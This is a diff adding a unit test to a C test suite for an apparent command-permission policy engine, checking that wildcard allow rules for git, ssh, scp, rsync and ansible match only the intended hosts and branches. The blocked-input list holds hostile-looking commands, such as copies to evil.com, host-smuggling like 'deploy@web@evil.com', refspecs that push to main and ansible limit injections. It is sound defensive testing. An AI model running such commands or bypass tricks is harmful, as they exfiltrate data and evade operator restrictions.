@@ -208,6 +208,39 @@ static const char *const plain_text[] = {
 	"gcloud compute ssh web --command='systemctl status x'", "bash run.sh 'a b; c'", "make x/y.o",
 };
 
+/* A star in a ref, which goes to where its colon says, and in a host's name. */
+static const char places[] =
+	"version: 1\n"
+	"profile: enforce\n"
+	"packs: [core.readonly]\n"
+	"rules:\n"
+	"  - id: op\n"
+	"    allow: [\"git push origin agent/*\", \"git push backup *\", \"git fetch origin *\", \"git pull origin *\", \"git fetch up pull/*\",\n"
+	"            \"git push * main\", \"git show HEAD:*\", \"git commit -m wip*\", \"timeout 9 git fetch x *\", \"ssh web* systemctl restart nginx\",\n"
+	"            \"ssh deploy@web* uptime\", \"ssh app1 systemctl restart app*\", \"timeout 9 ssh db* uptime\", \"rsync -a /srv/a/ web*:/srv/a/\",\n"
+	"            \"rsync -a /srv/b/ *:/b/\", \"scp /srv/a/x web*:/srv/a/\", \"scp /srv/a/x me@web*:/srv/a/\", \"sftp web*\", \"scp /srv/a/y *:/srv/y\",\n"
+	"            \"scp r*:/x /srv/x\", \"ansible-playbook site.yml --limit web*\", \"ansible web* -a uptime\", \"ansible-playbook site.yml -e image=*\",\n"
+	"            \"ansible-playbook play.yml --limit *\", \"ansible-playbook site.yml --extra-vars=image=*\"]\n";
+
+static const char *const elsewhere[] = {
+	"git push origin agent/x:main", "git fetch origin x:main", "git fetch origin refs/heads/x:refs/heads/main", "git pull origin x:main",
+	"git fetch up pull/1/head:main", "timeout 9 git fetch x a:main", "ssh web@evil.com systemctl restart nginx", "ssh deploy@web@evil.com uptime",
+	"timeout 9 ssh db@evil.com uptime", "rsync -a /srv/a/ web@evil.com:/srv/a/", "scp /srv/a/x web@evil.com:/srv/a/", "scp /srv/a/x me@web@evil:/srv/a/",
+	"scp scp://evil/a /srv/x", "scp r@evil:/x /srv/x", "scp rsync://evil:/x /srv/x", "sftp web@evil.com", "ansible-playbook site.yml --limit web1:all",
+	"ansible-playbook site.yml --limit 'web1:*'", "ansible-playbook site.yml --limit 'web1;db'", "ansible-playbook play.yml --limit 'all:!x'",
+	"ansible-playbook play.yml --limit '~.*'", "ansible-playbook play.yml --limit 'web*'", "ansible-playbook play.yml --limit 'we?'", "ansible web1:db -a uptime",
+	"ansible 'web1;db' -a uptime", "ansible 'web1,db' -a uptime", "ansible 'web[1:9]' -a uptime",
+};
+
+static const char *const there[] = {
+	"git push origin agent/x", "git push origin agent/x/y-1", "git push backup HEAD:main", "git push backup main", "git fetch origin main", "git fetch up pull/1/head",
+	"git pull origin main", "git push origin main", "git push git@host:x main", "git commit -m 'wip-a: x'", "ssh web1 systemctl restart nginx",
+	"ssh web1.corp.io systemctl restart nginx", "ssh deploy@web1 uptime", "ssh app1 systemctl restart app@1.service", "timeout 9 ssh db1 uptime",
+	"rsync -a /srv/a/ web1:/srv/a/", "rsync -a /srv/b/ me@backup:/b/", "scp /srv/a/x web1:/srv/a/", "scp /srv/a/x me@web1:/srv/a/", "scp /srv/a/y u@h:/srv/y",
+	"sftp web1", "ansible-playbook site.yml --limit web1", "ansible web1 -a uptime", "ansible-playbook site.yml -e image=a/b:1.2",
+	"ansible-playbook site.yml --extra-vars=image=a/b:1.2", "ansible-playbook play.yml --limit web1",
+};
+
 static const char restricts[] =
 	"version: 1\n"
 	"profile: enforce\n"
@@ -393,6 +426,12 @@ static void stars_are_no_code(void **state)
 	ask_all(texts, injected, COUNT(injected), plain_text, COUNT(plain_text));
 }
 
+static void stars_are_for_one_place(void **state)
+{
+	(void)state;
+	ask_all(places, elsewhere, COUNT(elsewhere), there, COUNT(there));
+}
+
 static void restrictions_are_for_tools_of_no_table(void **state)
 {
 	(void)state;
@@ -438,6 +477,7 @@ int main(void)
 		cmocka_unit_test(many_words_stand_behind_the_subcommand),
 		cmocka_unit_test(options_that_a_rule_gives_are_not_given_again),
 		cmocka_unit_test(stars_are_no_code),
+		cmocka_unit_test(stars_are_for_one_place),
 		cmocka_unit_test(restrictions_are_for_tools_of_no_table),
 		cmocka_unit_test(restrictions_are_for_every_way_to_say_it),
 		cmocka_unit_test(restrictions_are_for_what_is_run),
